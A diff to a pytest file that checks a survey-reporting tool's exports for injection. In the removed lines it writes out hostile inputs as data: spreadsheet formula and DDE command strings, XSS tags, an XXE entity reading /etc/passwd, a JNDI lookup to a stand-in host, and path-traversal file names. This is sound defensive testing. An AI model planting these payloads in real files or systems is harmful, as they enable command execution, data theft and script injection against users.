@@ -3,80 +3,38 @@
 import io
 import re
 import zipfile
+from dataclasses import replace
 from html.parser import HTMLParser
 from itertools import product
 
 import openpyxl
 import pytest
+from defusedxml import ElementTree
 
-from analysis import codebook, material, reporting
+from analysis import bundle, material, reporting
 from analysis.material import Material
 from analysis.present import manifest, page, pictures, report_book, slide_readback
 from analysis.privacy.presets import PRESETS
 from analysis.reporting import Settings
 from analysis.workspace import pseudonyms
-
-STARTS = ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠")
-FORMULAS = ("1+2", 'HYPERLINK("http://x.example/","a")', "cmd|' /C calc'!A0", "SUM(A1:A9)*1")
-MARKUP = (
-    "<script>window.pwned=1</script>",
-    "<img src=http://x.example/a.png>",
-    "<img src=x onerror=window.pwned=1>",
-    "![a](http://x.example/b.png)",
-    "[a](javascript:window.pwned=1)",
-    "\\href{http://x.example}{a}",
-    "\\includegraphics{http://x.example/c.png}",
-    "<svg onload=window.pwned=1>",
-    "<iframe srcdoc='<script>window.pwned=1</script>'>",
-    ":red[a] :material/home:",
-    "a < b > c & d &amp; e",
-    "</script><script>window.pwned=1</script>",
-    "]]><script>window.pwned=1</script>",
-    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
-    "{{ 7*7 }}{% for a in b %}",
-    "%{meta.a} %{y} <b>bold</b> <a href='http://x.example'>a</a>",
-    "url(http://x.example/d.png)",
-    "_x0041_ _x000D_",
-    "' onmouseover='window.pwned=1",
-    '" onfocus="window.pwned=1" autofocus="',
-    "http://x.example/e",
-    "${jndi:ldap://x.example/a}",
-    "R\u202etxt.exe",
-    'DDE("cmd";"/C calc";"a")',
-)
-PAYLOADS = (*(start + own for start in STARTS for own in FORMULAS), *MARKUP)
-PEOPLE = 6  # who choose each: enough for every audience
-
-
-def quoted(text):
-    return '"' + text.replace('"', '""') + '"'
-
-
-def hostile():
-    """A survey whose options, questions and answers, and whose name, are payloads."""
-    assert len(PAYLOADS) == 60
-    heads = ["Which? " + MARKUP[0], "And? =1+2", "What benefits? " + MARKUP[1]]
-    rows = [";".join(map(quoted, heads))]
-    for at, payload in enumerate(PAYLOADS):
-        other = PAYLOADS[(at + 7) % len(PAYLOADS)]
-        for _ in range(PEOPLE):
-            rows.append(";".join(map(quoted, (payload, other, f"Everyone can join. {payload}"))))
-    files = codebook.texts_of()
-    label = re.search(rb"label: \{[^}]*en: ([^,}]+)", files["codebook.yaml"])
-    if label:
-        files["codebook.yaml"] = files["codebook.yaml"].replace(label[1], b"'=1+2 <script>'", 1)
-    name = "<img src=http://x.example/f.png>=1+2.csv"
-    return Material(((name, "\n".join(rows).encode()),), files)
+from analysis.workspace.database import Database
+from tests import payloads
+from tests.payloads import PAYLOADS
 
 
 @pytest.fixture(scope="module")
-def made():
-    own = hostile()
-    prepared = material.prepared(own)
-    return {
-        preset: reporting.made(own, prepared, Settings("all", preset=preset))
-        for preset in ("public", "researcher")
-    }
+def made(tmp_path_factory, nightly):
+    """A report for each audience, of a survey with the work on it in which every text is a payload
+    and every option is that of enough people to be shown."""
+    content = payloads.xlsx(payloads.rows(6) if nightly else payloads.rows(2, 1))
+    found = {}
+    for preset in PRESETS if nightly else ("public", "researcher"):
+        file = tmp_path_factory.mktemp(preset) / "work.sqlite"
+        own = payloads.files(Database(f"sqlite:///{file}"), content, preset)
+        prepared = material.prepared(own)
+        told = Settings("all", preset=preset, funding=PAYLOADS[25], disclaimer=PAYLOADS[41])
+        found[preset] = reporting.made(own, prepared, told)
+    return found
 
 
 def parts(content):
@@ -89,17 +47,63 @@ def parts(content):
                 yield name, own
 
 
-@pytest.mark.parametrize("preset", ["public", "researcher"])
 @pytest.mark.parametrize("ending", [".pptx", ".xlsx"])
-def test_an_office_file_has_no_formula_link_or_program(made, preset, ending):
-    content = reporting.WRITERS[ending](made[preset])
-    for name, part in parts(content):
-        assert "vba" not in name.lower() and "externalLink" not in name, name
-        assert b'TargetMode="External"' not in part, name
-        assert not re.search(rb"<(\w+:)?f[ >]", part) or "chart" in name, name
-        assert b"hlinkClick" not in part and b"<!ENTITY" not in part, name
-    reader = {".pptx": slide_readback, ".xlsx": report_book}[ending]
-    assert reader.figures_of(content) == manifest.figures(made[preset].report.exhibits)
+def test_an_office_file_has_no_formula_link_or_program(made, ending):
+    for own in made.values():
+        content = reporting.WRITERS[ending](own)
+        for name, part in parts(content):
+            assert "vba" not in name.lower() and "externalLink" not in name, name
+            assert b'TargetMode="External"' not in part, name
+            assert not re.search(rb"<(\w+:)?f[ >]", part) or "chart" in name, name
+            assert b"hlinkClick" not in part and b"<!ENTITY" not in part, name
+        reader = {".pptx": slide_readback, ".xlsx": report_book}[ending]
+        assert reader.figures_of(content) == manifest.figures(own.report.exhibits)
+
+
+def test_a_project_is_text(made):
+    for preset, own in made.items():
+        if reporting.PROJECT not in reporting.writers(preset, True):
+            continue
+        told = ""
+        for name, part in parts(reporting.ALL_WRITERS[reporting.PROJECT](own)):
+            assert re.fullmatch(r"project\.qde|[sS]ources/[0-9a-f-]{36}\.\w{3,4}", name)
+            if name.endswith((".qde", ".svg")):
+                root = ElementTree.fromstring(part, forbid_dtd=True)
+                told += " ".join(
+                    t for e in root.iter() for t in (e.text or "", *e.attrib.values())
+                )
+            else:
+                told += part.decode()
+        whole = " ".join(told.split())
+        assert [p for p in PAYLOADS if "@" not in p and " ".join(p.split()) not in whole] == []
+
+
+@pytest.mark.parametrize(
+    "name", ["../../etc/x.csv", "/etc/x.csv", "C:\\x.csv", "a:b.csv", "..\\x"]
+)
+def test_a_file_in_a_bundle_lies_within_it(name):
+    for own, _ in bundle._held(Material(((name, b"a;b"),)), "researcher"):
+        assert not re.search(r"[\\:]", own) and ".." not in own.split("/") and own[0] != "/"
+
+
+def test_a_bundle_has_safe_names_and_pictures_that_hold_text(made, nightly):
+    if not nightly:
+        pytest.skip("only nightly: a browser draws every chart")
+    own = made["researcher"]
+    files = replace(own.material, exports=(("a.xlsx", own.material.exports[0][1]),))
+    drawing = bundle.Drawing("svg", "slide", True)
+    content = bundle.bundle(files, own.prepared, own.settings, ["en"], None, drawing)
+    found = bundle.unpacked(content)[0]
+    assert all(
+        re.fullmatch(r"[\w./ –-]+", n) and ".." not in n for n in found if "inputs" not in n
+    )
+    drawn = [own for name, own in found.items() if name.endswith(".svg")]
+    assert drawn
+    for element in (own for svg in drawn for own in ElementTree.fromstring(svg).iter()):
+        assert element.tag.split("}")[-1] not in ("script", "a", "foreignObject")
+        for name, value in element.attrib.items():
+            assert not name.startswith("on")
+            assert not name.endswith(("href", "src")) or value.startswith(("#", "data:image/"))
 
 
 def test_texts_stand_in_a_workbook_as_they_were_typed(made):
@@ -108,7 +112,7 @@ def test_texts_stand_in_a_workbook_as_they_were_typed(made):
     assert not [cell for cell in cells if cell.data_type == "f"]
     assert not [cell for cell in cells if cell.hyperlink and cell.hyperlink.target]
     texts = {re.sub("_x005F_", "_", str(cell.value)) for cell in cells if cell.value is not None}
-    assert not {p for p in PAYLOADS if not any(p in text for text in texts)}
+    assert not {p for p in PAYLOADS if "@" not in p and not any(p in text for text in texts)}
 
 
 class Tags(HTMLParser):
